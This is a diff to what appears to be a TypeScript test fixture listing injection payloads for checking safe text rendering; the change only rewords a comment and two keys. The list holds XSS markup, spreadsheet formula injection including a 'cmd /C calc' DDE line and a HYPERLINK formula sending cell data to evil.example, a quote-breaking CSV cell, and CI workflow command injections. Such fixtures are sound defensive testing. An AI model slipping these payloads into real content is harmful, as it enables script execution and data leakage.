@@ -1,6 +1,6 @@
 /**
  * Text that tries to be more than text somewhere. Each is one line without a bullet at its start,
- * so that it may stand wherever harmless text does. Markup that runs sets `window.ran`.
+ * so that it may be wherever harmless text is. Markup that runs sets `window.ran`.
  */
 export const payloads: Readonly<Record<string, string>> = {
   'a script': '<script>window.ran=1</script>',
@@ -52,13 +52,13 @@ export const payloads: Readonly<Record<string, string>> = {
   'a Markdown autolink': 'see www.evil.example and https://evil.example/x and a@evil.example',
   'Markdown with HTML': '<details open ontoggle=window.ran=1>**x**</details>',
   'a formula': '=HYPERLINK("https://evil.example/?"&A1,"click")',
-  'a formula behind white space': "\t=cmd|' /C calc'!A0",
+  'a formula after white space': "\t=cmd|' /C calc'!A0",
   'a formula with plus': '+1+cmd|x',
   'a formula with minus': '-1+cmd|x',
   'a formula with at': '@SUM(1+1)*cmd|x',
   'a formula of full width': '\uff1d1+1',
   'a cell that breaks out of its quotes': '","=1+1","',
   'a workflow command': '::error file=x,line=1::owned',
-  'a workflow command behind a space': ' ::add-mask::lamp',
+  'a workflow command after a space': ' ::add-mask::lamp',
   'an old workflow command': '##[add-mask]lamp',
 };
